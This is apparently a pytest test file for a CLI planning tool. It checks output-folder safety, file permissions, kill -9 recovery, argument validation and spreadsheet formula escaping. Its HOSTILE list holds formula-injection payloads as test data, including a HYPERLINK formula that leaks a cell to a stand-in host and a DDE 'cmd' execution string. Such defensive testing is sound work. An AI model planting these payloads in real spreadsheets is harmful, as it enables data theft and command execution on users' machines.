"""Data safety against hostile input and careless arguments (issue classes, one test each):
``--out`` never destroys a user's folder, no formula is ever live in what we write, personal
data is private, a ``kill -9`` at any moment loses nothing, arguments are checked, a closed
pipe is silent."""

from __future__ import annotations

import csv
import hashlib
import os
import stat
import subprocess
import sys
import textwrap
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from conftest import base_tables, write_tables

from optimizer.cli import main
from optimizer.data.errors import InputError
from optimizer.plans.formulas import RISKY, escape_text, read_output_csv, unescape_text
from optimizer.plans.io import clean_stale
from optimizer.terms import ledger as L
from optimizer.verify import Violation, write_verify_csv

ROOT = Path(__file__).resolve().parents[1]
DATE = "2026-09-01"
HOSTILE = ['=HYPERLINK("http://x/?"&A2,"click")', "=cmd|' /C calc'!A0", "+1+1", "@SUM(A1)",
           "-2+3", "'=already quoted"]  # fmt: skip


def hostile_dataset(folder: Path) -> Path:
    """The tiny dataset with spreadsheet formulas for every cadre, unit and village name."""
    t = base_tables()
    for i, row in enumerate(t["cadres"]):
        row["name"] = HOSTILE[i]
    t["units"][0]["name"], t["units"][1]["name"] = HOSTILE[4], HOSTILE[5]
    for row, name in zip(t["villages"], HOSTILE[3:], strict=False):
        row["name"] = name
    return write_tables(folder, t)


def solve_cli(dataset: Path, out: Path, *extra: str) -> int:
    return main(
        [
            "solve",
            str(dataset),
            "--policy",
            "hunan-2021",
            "--date",
            DATE,
            "--out",
            str(out),
            "--quiet",
            *extra,
        ]
    )


def digest(folder: Path) -> dict[str, str]:
    """Every file under ``folder`` (hidden ones too) by its content hash."""
    return {
        str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in sorted(folder.rglob("*"))
        if p.is_file()
    }


def stable(folder: Path) -> dict[str, str]:
    """A plan folder's names and tables (``manifest.json`` and ``plan.xlsx`` carry times)."""
    d = digest(folder)
    return {k: v if k.endswith(".csv") else "" for k, v in d.items()}


def hidden(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if p.name.startswith("."))


@pytest.fixture
def data(tmp_path) -> Path:
    return hostile_dataset(tmp_path / "data")


# --------------------------------------------------------------------------- --out


def _user_folder(tmp_path: Path) -> Path:
    user = tmp_path / "mine"
    (user / "sub").mkdir(parents=True)
    (user / "a.docx").write_bytes(b"the user's report")
    (user / "sub" / "notes.txt").write_text("keep me")
    return user


@pytest.mark.parametrize(
    "case",
    [
        "dataset",
        "inside-dataset",
        "user-folder",
        "file",
        "symlink",
        "cwd",
        "zhucun-folder-with-a-user-file",
        "linked-dataset",
    ],
)
def test_out_refuses_a_user_folder(case, data, tmp_path, monkeypatch, capsys):
    """Refused with exit 2 and one line before anything is solved; nothing is touched."""
    out = {
        "dataset": data,
        "inside-dataset": data / "plan",
        "user-folder": tmp_path / "mine",
        "file": tmp_path / "report.docx",
        "symlink": tmp_path / "link",
        "cwd": Path("."),
        "zhucun-folder-with-a-user-file": tmp_path / "plan",
        "linked-dataset": tmp_path / "dlink" / "plan",
    }[case]
    if case == "user-folder":
        _user_folder(tmp_path)
    elif case == "file":
        out.write_bytes(b"not a folder")
    elif case == "symlink":
        out.symlink_to(_user_folder(tmp_path), target_is_directory=True)
    elif case == "linked-dataset":
        (tmp_path / "dlink").symlink_to(data, target_is_directory=True)
    elif case == "cwd":
        monkeypatch.chdir(_user_folder(tmp_path))
    elif case.startswith("zhucun"):
        assert solve_cli(data, out) == 3
        (out / "a.docx").write_bytes(b"added by the user")
    before = digest(tmp_path)
    capsys.readouterr()
    assert solve_cli(data, out) == 2
    err = capsys.readouterr().err.strip().splitlines()
    assert len(err) == 1 and err[0].startswith(f"--out {out}: ") and "choose" in err[0], err
    assert digest(tmp_path) == before
    assert not [p for p in tmp_path.rglob(".*zhucun*")]
    if case == "user-folder":
        assert "(a.docx, sub/)" in err[0]


def test_out_replaces_only_a_folder_zhucun_wrote(data, tmp_path):
    empty = tmp_path / "empty"
    empty.mkdir()
    assert solve_cli(data, empty) == 3  # an empty folder is fine
    assert solve_cli(data, empty) == 3  # and so is our own output, replaced
    assert sorted(p.name for p in empty.iterdir()) == [
        "kpis.json",
        "manifest.json",
        "plan.csv",
        "plan.xlsx",
        "teams.csv",
        "unstaffed.csv",
    ]
    assert hidden(tmp_path) == []


def test_out_refuses_a_user_folder_in_replan_and_run(data, tmp_path, capsys):
    plan = tmp_path / "plan"
    assert solve_cli(data, plan) == 3
    user = _user_folder(tmp_path)
    before = digest(tmp_path)
    for out in (plan, user):  # the plan being repaired, a user's folder
        code = main(
            ["replan", str(data), str(plan), "--policy", "hunan-2021", "--out", str(out), "--quiet"]
        )
        assert code == 2
    scenario = tmp_path / "sc.yaml"
    scenario.write_text(f"name: mine\ndataset: {data}\npolicy: hunan-2021\nplan_date: {DATE}\n")
    assert main(["run", str(scenario), "--out", str(tmp_path), "--quiet"]) == 2
    err = capsys.readouterr().err
    assert "is the input" in err and "holds files zhucun did not write" in err
    assert digest(tmp_path) == {**before, "sc.yaml": digest(tmp_path)["sc.yaml"]}


# --------------------------------------------------------------------------- formulas


def _csv_cells(path: Path) -> list[str]:
    with open(path, encoding="utf-8-sig", newline="") as fh:
        return [cell for row in csv.reader(fh) for cell in row]


def assert_no_formula(path: Path) -> None:
    """A CSV: no cell a spreadsheet would run; a workbook: no formula cell."""
    if path.suffix == ".csv":
        live = [c for c in _csv_cells(path) if c[:1] and c[0] in RISKY]
    else:
        wb = openpyxl.load_workbook(path)
        live = [
            c.value
            for ws in wb.worksheets
            for row in ws.iter_rows()
            for c in row
            if c.data_type == "f"
        ]
    assert not live, (path.name, live)


def test_formula_injection_is_text_in_every_file_we_write(data, tmp_path):
    plan, other = tmp_path / "plan", tmp_path / "other"
    assert solve_cli(data, plan) == 3
    assert (
        main(
            [
                "solve",
                str(data),
                "--policy",
                "central-2021",
                "--date",
                DATE,
                "--out",
                str(other),
                "--quiet",
            ]
        )
        == 3
    )
    assert main(["verify", str(data), str(plan), "--policy", "hunan-2021", "--quiet"]) == 0
    write_verify_csv(
        [Violation("T-SIZE", "V1", "C1", HOSTILE[0], HOSTILE[1], HOSTILE[2])],
        tmp_path / "v" / "verify.csv",
    )
    assert main(["compare", str(plan), str(other), "--out", str(tmp_path / "cmp"), "--quiet"]) == 0
    db = tmp_path / "l.db"
    assert main(["ledger", "approve", str(plan), "--ledger", str(db), "--quiet"]) == 0
    export = tmp_path / "history.csv"
    assert (
        main(
            [
                "ledger",
                "export",
                "--date",
                "2027-01-01",
                "--out",
                str(export),
                "--ledger",
                str(db),
                "--quiet",
            ]
        )
        == 0
    )
    assert main(["template", "--out", str(tmp_path / "t.xlsx"), "--quiet"]) == 0
    written = [
        p for p in tmp_path.rglob("*") if p.suffix in (".csv", ".xlsx") and "data" not in p.parts
    ]
    assert len(written) >= 16
    for path in written:
        assert_no_formula(path)
    # the names are there, as text, and read back as they were given
    frame = read_output_csv(plan / "plan.csv", ["cadre_name", "unit_name"], [])
    assert set(frame.cadre_name) <= set(HOSTILE) and set(frame.unit_name) == {HOSTILE[4]}
    posted = L.Ledger(db).history_frame(date(2027, 1, 1))
    assert set(posted.cadre_name) == set(frame.cadre_name)


def test_formula_injection_escape_reads_back_exactly():
    for value in [*HOSTILE, "'", "''", "'x", "x'", "", "正常", "\tx", "\rx", "-", "="]:
        assert unescape_text(escape_text(value)) == value
    assert escape_text(-3) == -3 and escape_text(2.5) == 2.5


def test_formula_injection_plan_xlsx_cells_are_text(data, tmp_path):
    assert solve_cli(data, tmp_path / "plan") == 3
    ws = openpyxl.load_workbook(tmp_path / "plan" / "plan.xlsx")["选派名单"]
    col = "ABCDEFGHIJKLMN"[[c.value for c in ws[1]].index("姓名")]
    names = {c.value for c in ws[col][1:]}
    assert names and names <= set(HOSTILE) and any(n.startswith("=") for n in names)
    assert all(c.data_type == "s" for c in ws[col][1:])


# --------------------------------------------------------------------------- permissions


def _modes(base: Path, folder: Path) -> dict[str, int]:
    return {
        str(p.relative_to(base)): stat.S_IMODE(p.stat().st_mode)
        for p in [folder, *folder.rglob("*")]
    }


@pytest.mark.parametrize("umask", [0o022, 0o077, 0o002])
def test_personal_files_are_private(umask, data, tmp_path):
    """Plan, run and comparison folders 0700, files 0600, whatever the umask (never wider)."""
    old = os.umask(umask)
    try:
        plan = tmp_path / "plan"
        assert solve_cli(data, plan) == 3
        assert main(["verify", str(data), str(plan), "--policy", "hunan-2021", "--quiet"]) == 0
        assert solve_cli(data, tmp_path / "plan2") == 3
        assert (
            main(
                [
                    "compare",
                    str(plan),
                    str(tmp_path / "plan2"),
                    "--out",
                    str(tmp_path / "cmp"),
                    "--quiet",
                ]
            )
            == 0
        )
        db = tmp_path / "l.db"
        assert main(["ledger", "approve", str(plan), "--ledger", str(db), "--quiet"]) == 0
        assert (
            main(
                [
                    "ledger",
                    "export",
                    "--out",
                    str(tmp_path / "exp" / "h.csv"),
                    "--ledger",
                    str(db),
                    "--date",
                    "2027-01-01",
                    "--quiet",
                ]
            )
            == 0
        )
        assert (
            main(
                [
                    "anonymize",
                    str(data),
                    "--out",
                    str(tmp_path / "anon"),
                    "--key",
                    str(tmp_path / "key" / "key.csv"),
                    "--quiet",
                ]
            )
            == 0
        )
        scenario = tmp_path / "sc.yaml"
        scenario.write_text(f"name: r\ndataset: {data}\npolicy: hunan-2021\nplan_date: {DATE}\n")
        assert main(["run", str(scenario), "--out", str(tmp_path / "runs"), "--quiet"]) == 0
    finally:
        os.umask(old)
    modes = {}
    for name in ("plan", "cmp", "anon", "runs/r"):
        modes.update(_modes(tmp_path, tmp_path / name))
    modes["h.csv"] = stat.S_IMODE((tmp_path / "exp" / "h.csv").stat().st_mode)
    modes["key.csv"] = stat.S_IMODE((tmp_path / "key" / "key.csv").stat().st_mode)
    assert "plan/verify.csv" in modes and "runs/r/dataset/cadres.csv" in modes
    wide = {k: oct(m) for k, m in modes.items() if m & 0o077}
    assert not wide


# --------------------------------------------------------------------------- kill -9

_KILLER = """
import os, signal, shutil, sys
from pathlib import Path
point = sys.argv[1]

def die(*_a, **_k):
    os.kill(os.getpid(), signal.SIGKILL)

import optimizer.data.loading, optimizer.plans.build, optimizer.plans.formulas
if point == "load":
    optimizer.data.loading.load_dataset = die
elif point == "csv":
    optimizer.plans.build.write_csv = die
elif point == "xlsx":
    optimizer.plans.build.write_workbook = die
elif point == "export":
    real = optimizer.plans.formulas.write_csv
    def half(frame, path, index=False):
        Path(path).write_text("cadre_id,cadre_name\\nC1,张三\\n")
        die()
    optimizer.plans.formulas.write_csv = half
else:
    kind = {"aside": "zhucun-tmp", "drop-old": "zhucun-old"}[point]
    real_replace, real_rmtree = os.replace, shutil.rmtree
    def replace(src, dst, *a, **k):
        if point == "aside" and kind in str(src):
            die()
        return real_replace(src, dst, *a, **k)
    def rmtree(path, *a, **k):
        if point == "drop-old" and kind in str(path):
            die()
        return real_rmtree(path, *a, **k)
    os.replace, shutil.rmtree = replace, rmtree
from optimizer.cli import main
sys.exit(main(sys.argv[2:]))
"""


def _killed(point: str, *args: str) -> subprocess.CompletedProcess:
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    return subprocess.run(
        [sys.executable, "-c", textwrap.dedent(_KILLER), point, *args],
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.mark.parametrize("point", ["load", "csv", "xlsx", "aside", "drop-old"])
def test_kill_9_while_solving_loses_no_file(point, data, tmp_path):
    """Killed at each step of a solve that replaces an earlier plan: the dataset and the
    earlier plan survive (a plan moved aside comes back), the next run cleans up."""
    out = tmp_path / "runs" / "plan"
    assert solve_cli(data, out) == 3
    before_data, before_plan, stable_plan = digest(data), digest(out), stable(out)
    proc = _killed(
        point,
        "solve",
        str(data),
        "--policy",
        "hunan-2021",
        "--date",
        DATE,
        "--out",
        str(out),
        "--quiet",
    )
    assert proc.returncode == -9, proc.stderr
    assert digest(data) == before_data
    if point != "aside":  # a complete plan is in place: the old one, or the new (same) one
        assert stable(out) == stable_plan
        assert digest(out) == before_plan or point == "drop-old"
    clean_stale(out.parent)  # what the next run does first
    assert stable(out) == stable_plan and hidden(out.parent) == []
    assert digest(out) == before_plan or point == "drop-old"
    if point in ("csv", "drop-old"):  # a real next run, from a leftover
        proc = _killed(
            point,
            "solve",
            str(data),
            "--policy",
            "hunan-2021",
            "--date",
            DATE,
            "--out",
            str(out),
            "--quiet",
        )
        assert hidden(out.parent)
        assert solve_cli(data, out) == 3
        assert hidden(out.parent) == [] and stable(out) == stable_plan


def test_kill_9_while_exporting_leaves_no_names_behind(tmp_path, data):
    plan = tmp_path / "plan"
    assert solve_cli(data, plan) == 3
    db = tmp_path / "l.db"
    assert main(["ledger", "approve", str(plan), "--ledger", str(db), "--quiet"]) == 0
    out = tmp_path / "exp" / "history.csv"
    args = ["ledger", "export", "--out", str(out), "--ledger", str(db), "--date", "2027-01-01"]
    assert _killed("export", *args).returncode == -9
    assert hidden(out.parent) and not out.exists()
    assert main([*args, "--quiet"]) == 0
    assert hidden(out.parent) == [] and out.exists()


# --------------------------------------------------------------------------- arguments


@pytest.mark.parametrize(
    "args",
    [
        ["solve", "D", "--policy", "P", "--out", "O", "--time-limit", "0"],
        ["solve", "D", "--policy", "P", "--out", "O", "--time-limit", "-5"],
        ["solve", "D", "--policy", "P", "--out", "O", "--time-limit", "nan"],
        ["solve", "D", "--policy", "P", "--out", "O", "--time-limit", "inf"],
        ["solve", "D", "--policy", "P", "--out", "O", "--time-limit", "soon"],
        ["solve", "D", "--policy", "P", "--out", "O", "--workers", "0"],
        ["solve", "D", "--policy", "P", "--out", "O", "--workers", "1.5"],
        ["solve", "D", "--policy", "P", "--out", "O", "--seed", "-1"],
        ["solve", "D", "--policy", "P", "--out", "O", "--seed", str(2**40)],
        ["replan", "D", "PL", "--policy", "P", "--out", "O", "--time-limit", "nan"],
        ["replan", "D", "PL", "--policy", "P", "--out", "O", "--workers", "-2"],
        ["explain", "D", "--policy", "P", "--village", "V", "--time-limit", "0"],
        ["run", "S.yaml", "--out", "O", "--time-limit", "-1"],
        ["run", "S.yaml", "--out", "O", "--jobs", "0"],
        ["generate", "--scale", "county", "--out", "O", "--seed", "-3"],
        ["anonymize", "D", "--out", "O", "--seed", "-3"],
    ],
)
def test_arguments_out_of_range_exit_2(args, capsys):
    with pytest.raises(SystemExit) as exc:
        main(args)
    assert exc.value.code == 2
    err = capsys.readouterr().err
    flag = args[-2]
    assert f"argument {flag}: expected" in err and repr(args[-1]) in err, err


def test_arguments_valid_values_pass(data, tmp_path):
    assert (
        solve_cli(data, tmp_path / "p", "--time-limit", "0.5", "--workers", "1", "--seed", "7") == 3
    )


# --------------------------------------------------------------------------- broken pipe


def test_broken_pipe_is_silent(data, tmp_path):
    """``zhucun compare … | head``: no error once the reader has gone; the files are written."""
    plan, other = tmp_path / "plan", tmp_path / "other"
    assert solve_cli(data, plan) == 3 and solve_cli(data, other) == 3
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    for cmd in (
        ["compare", str(plan), str(other), "--out", str(tmp_path / "cmp")],
        ["verify", str(data), str(plan), "--policy", "hunan-2021"],
        ["--help"],
    ):
        proc = subprocess.Popen(
            [sys.executable, "-m", "optimizer.cli", *cmd],
            env=env,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
        )
        proc.stdout.close()  # the reader is gone before the first line
        err = proc.stderr.read().decode()
        assert proc.wait(timeout=120) == 0, err
        assert "Error" not in err and "internal error" not in err and "Traceback" not in err
    assert (tmp_path / "cmp" / "compare.xlsx").exists()


def test_library_refuses_a_user_folder(tmp_path):
    """The library's writers refuse too, not only the command line."""
    from optimizer.plans.io import staged_folder

    user = _user_folder(tmp_path)
    before = digest(user)
    with pytest.raises(InputError), staged_folder(user):
        pass
    assert digest(user) == before
